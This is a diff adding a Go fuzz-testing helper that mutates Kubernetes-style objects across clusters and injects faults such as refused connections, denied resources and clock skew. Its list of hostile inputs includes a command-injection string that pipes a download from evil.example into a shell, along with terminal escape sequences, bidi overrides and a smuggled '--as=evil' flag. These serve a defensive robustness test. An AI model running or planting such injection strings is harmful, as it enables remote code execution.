@@ -1,0 +1,190 @@
+package fuzzfleet
+
+import (
+	"encoding/json"
+	"fmt"
+	"maps"
+	"math/rand/v2"
+	"slices"
+)
+
+// fleet are the objects of several clusters, while they are changed.
+type fleet struct {
+	*rand.Rand
+	clusters [][]map[string]any
+	made     int
+}
+
+// evil is what somebody may write where anything may be written.
+func evil() []any {
+	return []any{
+		"", " ", "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil", "--as=evil", "\x00\r\n\t", "a/b/c/d/e", "\u2067مرحبا\u2066",
+		"0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-20T23:43:31Z", "kueue.x-k8s.io/multikueue", "jobmanagedby.github.io/dispatch", "example.com/x",
+		"%s%d%!", "True", "False", "Unknown", "-1", "99999999999999999999", "1e100", "100m", "0-2147483647",
+		float64(0), float64(-1), float64(1 << 31), float64(1 << 62), 1.5, true, false, nil,
+		[]any{}, map[string]any{}, []any{nil}, []any{"a", "a"}, map[string]any{"": ""},
+	}
+}
+
+// change makes some changes, each of any sort.
+func (f *fleet) change() {
+	for range f.IntN(12) {
+		from := f.IntN(len(f.clusters))
+		if len(f.clusters[from]) == 0 {
+			continue
+		}
+		at := f.IntN(len(f.clusters[from]))
+		object := f.clusters[from][at]
+		switch f.IntN(8) {
+		case 0:
+			f.clusters[from] = slices.Delete(f.clusters[from], at, at+1)
+		case 1:
+			// The same object on another cluster, or one that looks like it.
+			to := f.IntN(len(f.clusters))
+			f.clusters[to] = append(f.clusters[to], f.copied(object))
+		case 2:
+			f.prune(object)
+		default:
+			f.set(object)
+		}
+	}
+}
+
+// copied is an object with another uid, with another name, or the very same.
+func (f *fleet) copied(object map[string]any) map[string]any {
+	text, err := json.Marshal(object)
+	if err != nil {
+		panic(err)
+	}
+	var again map[string]any
+	if err := json.Unmarshal(text, &again); err != nil {
+		panic(err)
+	}
+	metadata, _ := again["metadata"].(map[string]any)
+	f.made++
+	if f.IntN(3) > 0 && metadata != nil {
+		metadata["uid"] = fmt.Sprintf("made-%d", f.made)
+	}
+	if f.IntN(2) > 0 && metadata != nil {
+		metadata["name"] = fmt.Sprintf("%v-%d", metadata["name"], f.made)
+	}
+	return again
+}
+
+// place is a field of an object, or an item of a list in it.
+type place struct {
+	key string
+	get func() any
+	set func(any)
+}
+
+// places are all places of a value.
+func places(value any) (all []place) {
+	switch v := value.(type) {
+	case map[string]any:
+		for _, key := range slices.Sorted(maps.Keys(v)) {
+			all = append(all, place{key, func() any { return v[key] }, func(to any) { v[key] = to }})
+			all = append(all, places(v[key])...)
+		}
+	case []any:
+		for i := range v {
+			all = append(all, place{"", func() any { return v[i] }, func(to any) { v[i] = to }})
+			all = append(all, places(v[i])...)
+		}
+	}
+	return all
+}
+
+// set puts something else in a place: what stands elsewhere by that name, or anything.
+func (f *fleet) set(object map[string]any) {
+	all := places(object)
+	at := all[f.IntN(len(all))]
+	if f.IntN(3) == 0 {
+		others := evil()
+		at.set(others[f.IntN(len(others))])
+		return
+	}
+	cluster := f.clusters[f.IntN(len(f.clusters))]
+	if len(cluster) == 0 {
+		return
+	}
+	var same []place
+	for _, other := range places(cluster[f.IntN(len(cluster))]) {
+		if other.key == at.key {
+			same = append(same, other)
+		}
+	}
+	if len(same) > 0 {
+		text, err := json.Marshal(same[f.IntN(len(same))].get())
+		if err != nil {
+			panic(err)
+		}
+		var value any
+		if err := json.Unmarshal(text, &value); err != nil {
+			panic(err)
+		}
+		at.set(value)
+	}
+}
+
+// prune takes a field away.
+func (f *fleet) prune(object map[string]any) {
+	var maps []map[string]any
+	for _, at := range append(places(object), place{get: func() any { return object }}) {
+		if fields, ok := at.get().(map[string]any); ok && len(fields) > 0 {
+			maps = append(maps, fields)
+		}
+	}
+	from := maps[f.IntN(len(maps))]
+	names := make([]string, 0, len(from))
+	for name := range from {
+		names = append(names, name)
+	}
+	slices.Sort(names)
+	delete(from, names[f.IntN(len(names))])
+}
+
+// valid are those objects of a cluster that a bundle can hold: each has a type and a
+// name, and no other one has the same.
+func (f *fleet) valid(objects []map[string]any) []map[string]any {
+	seen := map[string]bool{}
+	valid := []map[string]any{}
+	for _, o := range objects {
+		metadata, _ := o["metadata"].(map[string]any)
+		apiVersion, _ := o["apiVersion"].(string)
+		kind, _ := o["kind"].(string)
+		name, _ := metadata["name"].(string)
+		namespace, isText := metadata["namespace"].(string)
+		_, has := metadata["namespace"]
+		key := fmt.Sprintf("%q %q %q %q", apiVersion, kind, namespace, name)
+		if apiVersion != "" && kind != "" && name != "" && (isText || !has) && !seen[key] {
+			seen[key] = true
+			valid = append(valid, o)
+		}
+	}
+	return valid
+}
+
+// trouble has a context not answer, or a resource of it be refused; now and then.
+func (f *fleet) trouble(context map[string]any) {
+	switch f.IntN(12) {
+	case 0:
+		delete(context, "file")
+		context["error"] = "connection refused\x1b[2J"
+	case 1, 2:
+		resources := []string{
+			"jobs.batch", "pods", "events", "secrets", "namespaces", "leases.coordination.k8s.io", "*.kueue.x-k8s.io", "workloads.kueue.x-k8s.io",
+			"clusterqueues.kueue.x-k8s.io", "multikueueclusters.kueue.x-k8s.io", "*.*",
+		}
+		codes := []int{403, 404, 429, 500, 503}
+		unread, _ := context["unread"].([]any)
+		context["unread"] = append(unread, map[string]any{
+			"resource": resources[f.IntN(len(resources))], "status": map[string]any{"code": codes[f.IntN(len(codes))], "message": "no\x1b[2J"},
+		})
+	case 3:
+		skews := []float64{-7200, -90, 2.5, 3600, 1e12}
+		context["clockSkewSeconds"] = skews[f.IntN(len(skews))]
+	case 4:
+		delete(context, "clusterUID")
+	}
+}
